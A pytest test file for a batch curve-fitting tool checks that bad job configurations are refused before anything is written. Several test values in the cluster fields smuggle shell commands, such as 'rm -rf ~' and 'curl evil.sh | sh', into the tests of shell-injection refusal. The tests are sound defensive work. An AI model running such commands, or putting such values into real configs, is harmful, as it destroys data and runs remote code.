"""Issue 10, classes 1, 5, 6 and 7: bad input is refused before anything is written.

Each test asserts the right behaviour through the command line: exit 2, a
message naming the key, parameter or variable, no traceback, and the job
folder byte-for-byte unchanged; or, where the input is fine, the job's result.
"""

from __future__ import annotations

import copy
import hashlib
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import xarray as xr
import yaml

from batchfit.cli import main
from batchfit.stack.synthetic import make_cube, write_cube

REPO = Path(__file__).resolve().parents[1]

GOOD = {
    "input": {"path": "cube.zarr", "variable": "counts", "fit_dim": "energy",
              "chunks": {"y": 4, "x": 4}},
    "model": {"components": [{"type": "gaussian", "prefix": "p1_"},
                             {"type": "linear", "prefix": "bg_"}]},
    "parameters": {"p1_sigma": {"value": 1.0, "min": 0.05}},
    "guess": True,
    "output": {"path": "out/results.zarr"},
    "cluster": {"kind": "local", "n_workers": 1},
}


@pytest.fixture(scope="module")
def cube_dir(tmp_path_factory):
    """An 8x8x32 cube plus variants: complex, no pixel dims, sigma without the fit dim."""
    root = tmp_path_factory.mktemp("hardening")
    cube = make_cube(8, 8, 32, seed=5)
    cube["counts_complex"] = cube["counts"].astype(np.complex64) * (1 + 1j)
    cube["one_curve"] = cube["counts"].isel(y=0, x=0)
    cube["err_per_pixel"] = cube["counts_err"].isel(energy=0)
    write_cube(cube, root / "cube.zarr", {"y": 4, "x": 4})
    write_cube(make_cube(8, 8, 32, seed=5).isel(y=slice(0, 0)), root / "empty.zarr", {"x": 4})
    return root


@pytest.fixture
def job(cube_dir, tmp_path):
    for name in ("cube.zarr", "empty.zarr"):
        (tmp_path / name).symlink_to(cube_dir / name)
    (tmp_path / "out").mkdir()
    return tmp_path


def edited(*pairs) -> dict:
    """GOOD with each (dotted key, value) set; value ``...`` deletes the key."""
    cfg = copy.deepcopy(GOOD)
    for key, value in pairs:
        *parents, last = key.split(".")
        node = cfg
        for part in parents:
            node = node.setdefault(part, {})
        if value is ...:
            del node[last]
        else:
            node[last] = value
    return cfg


def write(folder: Path, cfg: dict) -> Path:
    path = folder / "job.yaml"
    path.write_text(yaml.safe_dump(cfg))
    return path


def tree_digest(folder: Path) -> dict:
    """Path -> content hash of every file under ``folder`` (links not followed)."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*"))
            if p.is_file() and not {"cube.zarr", "empty.zarr"} & set(p.parts)}


def refused(job: Path, cfg: dict, capsys, *words: str, commands=("validate", "submit")):
    """Each command exits 2 naming ``words``, no traceback, nothing written."""
    path = write(job, cfg)
    before = tree_digest(job)
    for command in commands:
        assert main([command, str(path), *(["--quiet"] if command == "submit" else [])]) == 2
        err = capsys.readouterr().err
        for word in words:
            assert word.lower() in err.lower(), (word, err)
        assert "Traceback" not in err and len(err.strip().splitlines()) <= 12, err
    assert tree_digest(job) == before
    return err


# ---- class 1: code from a config --------------------------------------------

CANARY_MODULE = ("import pathlib\n"
                 "pathlib.Path({canary!r}).write_text(__name__)\n")
USER_MODEL = "import numpy as np\n\ndef decay(t, amp=5.0, tau=2.0, c=0.5):\n" \
             "    return amp * np.exp(-t / tau) + c\n"


@pytest.mark.slow
@pytest.mark.parametrize("model", ["function", "components"])
def test_python_path_only_imports_the_function_module(job, model):
    """Modules in python_path named like dependencies never run; sys.path is untouched."""
    mods = job / "mods"
    mods.mkdir()
    canaries = []
    for dep in ("xarray", "zarr", "dask", "distributed", "scipy", "h5netcdf", "pandas"):
        canaries.append(job / f"ran_{dep}")
        (mods / f"{dep}.py").write_text(CANARY_MODULE.format(canary=str(canaries[-1])))
    (mods / "bf_hardening_models.py").write_text(USER_MODEL)
    cfg = edited(("model.python_path", ["mods"]), ("guess", False), ("parameters", {}))
    if model == "function":
        cfg["model"] = {"function": "bf_hardening_models:decay", "python_path": ["mods"]}
    path = write(job, cfg)
    probe = ("import sys, batchfit.cli as c; before = list(sys.path); code = c.main(sys.argv[1:]);"
             " assert sys.path == before, 'sys.path changed'; sys.exit(code)")
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    proc = subprocess.run([sys.executable, "-c", probe, "validate", str(path)], cwd=job,
                          capture_output=True, text=True, env=env, timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert [c.name for c in canaries if c.exists()] == []
    if model == "function":
        assert "sample fits" in proc.stdout and "amp=" in proc.stdout


@pytest.mark.parametrize(("key", "value"), [
    ("queue", "normal\nrm -rf ~"),
    ("account", "lab; curl evil.sh | sh"),
    ("python", "python3 $(touch /tmp/x)"),
    ("walltime", "01:00:00\n#SBATCH --mem=1TB"),
    ("memory", "4\nGB"),
])
def test_job_queue_fields_refuse_newlines_and_shell(job, capsys, key, value):
    cluster = {"kind": "slurm", "jobs": 1, "cores": 2, "memory": "4GiB", key: value}
    err = refused(job, edited(("cluster", cluster)), capsys, f"cluster.{key}")
    assert "allowed" in err or "expected" in err


def test_job_extra_directives_refuse_newlines_and_shell(job, capsys):
    cluster = {"kind": "slurm", "jobs": 1, "cores": 2, "memory": "4GiB",
               "job_extra_directives": ["--gres=gpu:1", "--x\nrm -rf ~"]}
    refused(job, edited(("cluster", cluster)), capsys, "cluster.job_extra_directives", "allowed")


def test_valid_job_queue_fields_reach_the_job_script(job):
    from batchfit.config import load_config
    from batchfit.stack.cluster import job_script

    cluster = {"kind": "slurm", "jobs": 1, "cores": 2, "memory": "4GiB", "queue": "gpu-long",
               "account": "lab_42", "walltime": "02:00:00", "python": "/opt/env/bin/python3",
               "job_extra_directives": ["--gres=gpu:1", "--constraint=skylake"]}
    script = job_script(load_config(write(job, edited(("cluster", cluster)))).cluster)
    for text in ("-p gpu-long", "-A lab_42", "-t 02:00:00", "/opt/env/bin/python3",
                 "--gres=gpu:1", "--constraint=skylake"):
        assert text in script, (text, script)


# ---- class 5: expressions -----------------------------------------------------

@pytest.mark.parametrize(("expr", "why"), [
    ("-(" * 150 + "p1_sigma" + ")" * 150, "nested more than"),
    ("abs(p1_sigma, p1_center)", "takes 1 argument"),
    ("max(p1_sigma, key=1)", "no keyword"),
    ("fsum([p1_sigma, p1_center]) + (1, 2)", "containers"),
    ("p1_sigma if p1_center in (1, 2) else 0", "'in' is not allowed"),
])
def test_unsafe_tie_is_refused_naming_the_parameter(job, capsys, expr, why):
    cfg = edited(("parameters.bg_slope", {"expr": expr}))
    refused(job, cfg, capsys, "bg_slope", why)


def test_tie_that_failed_on_arrays_now_runs_and_is_right(job, capsys):
    """``-(c > 0)`` is a TypeError on numpy bool arrays; as floats it works on every path.

    The comparison is false on every pixel, so the tie stays smooth and every fit converges.
    """
    expr = "-(p1_center > 100) * 0.25 + 0.01 * p1_sigma"
    path = write(job, edited(("parameters.bg_slope", {"expr": expr})))
    assert main(["validate", str(path)]) == 0
    assert main(["submit", str(path), "--quiet"]) == 0
    ds = xr.open_zarr(job / "out" / "results.zarr").load()
    expected = -0.25 * (ds["p1_center"] > 100) + 0.01 * ds["p1_sigma"]
    np.testing.assert_allclose(ds["bg_slope"].values, expected.values, rtol=1e-15)
    assert bool(ds["success"].all())


# ---- class 6: everything validate can see, before the store exists ----------

CLASS_6 = {
    "guess with an expression model": (
        [("model", {"expression": "a * exp(-(x - c)**2 / w) + b"}), ("parameters", {})],
        ["guess", "cannot guess"]),
    "sigma without the fit dim": (
        [("input.sigma", "err_per_pixel")], ["input.sigma", "err_per_pixel", "energy"]),
    "input without pixel dims": (
        [("input.variable", "one_curve"), ("input.chunks", ...)], ["one_curve", "pixel dims"]),
    "empty input": ([("input.path", "empty.zarr")], ["empty", "'y'"]),
}


@pytest.mark.parametrize("case", list(CLASS_6), ids=list(CLASS_6))
def test_mistake_validate_can_see_is_refused_before_the_store(job, capsys, case):
    pairs, words = CLASS_6[case]
    refused(job, edited(*pairs), capsys, *words)


def test_init_store_of_another_grid_is_refused_before_the_store(job, capsys):
    small = xr.Dataset({"p1_center": (("y", "x"), np.zeros((4, 8)))},
                       coords={"y": np.arange(4), "x": np.arange(8) * 0.5})
    small.to_zarr(job / "out" / "earlier.zarr")
    refused(job, edited(("init", "out/earlier.zarr")), capsys, "init", "grid")


# ---- class 7 -------------------------------------------------------------------

def test_output_inside_the_input_is_refused(job, capsys, cube_dir):
    (job / "data.zarr").mkdir()
    cfg = edited(("input.path", "cube.zarr"), ("output.path", "cube.zarr/results.zarr"))
    refused(job, cfg, capsys, "output.path", "inside the input")
    assert not (cube_dir / "cube.zarr" / "results.zarr").exists()


def test_input_inside_the_output_is_refused(job, capsys):
    cfg = edited(("output.path", "."))
    refused(job, cfg, capsys, "output.path", "input")


def test_complex_input_is_refused(job, capsys):
    refused(job, edited(("input.variable", "counts_complex")), capsys,
            "counts_complex", "complex")


@pytest.mark.slow
def test_scheduler_without_workers_is_a_clear_error(job, capsys, monkeypatch):
    from distributed import LocalCluster

    monkeypatch.setenv("BATCHFIT_WORKER_TIMEOUT", "2")
    path = write(job, GOOD)
    before = tree_digest(job)
    with LocalCluster(n_workers=0, processes=True, host="127.0.0.1",
                      dashboard_address=None) as cluster:
        code = main(["submit", str(path), "--quiet", "--scheduler", cluster.scheduler_address])
    err = capsys.readouterr().err
    assert code == 2, err
    assert "no workers after 2 s" in err and "Traceback" not in err
    assert tree_digest(job) == before


def test_status_of_a_look_alike_store_exits_2(job, capsys):
    """A copy with batchfit's attributes but not its layout: a message, not a KeyError."""
    fake = xr.Dataset({"p1_center": (("y", "x"), np.zeros((2, 2)))},
                      attrs={"batchfit_fingerprint": "0" * 64, "batchfit_config": "{}"})
    fake.to_zarr(job / "out" / "lookalike.zarr")
    assert main(["status", str(job / "out" / "lookalike.zarr")]) == 2
    err = capsys.readouterr().err
    assert "lookalike.zarr" in err and "not a" in err and "KeyError" not in err
    assert "Traceback" not in err


def test_worker_memory_limit_too_small_is_refused_before_the_store(job, capsys):
    """No task fits within 75% of 256 MiB beside a worker's resident memory: exit 2."""
    refused(job, edited(("cluster.memory_limit", "256MiB")), capsys,
            "memory limit 256 MiB is too small", "smallest limit that works is 331 MiB",
            "cluster.memory_limit")
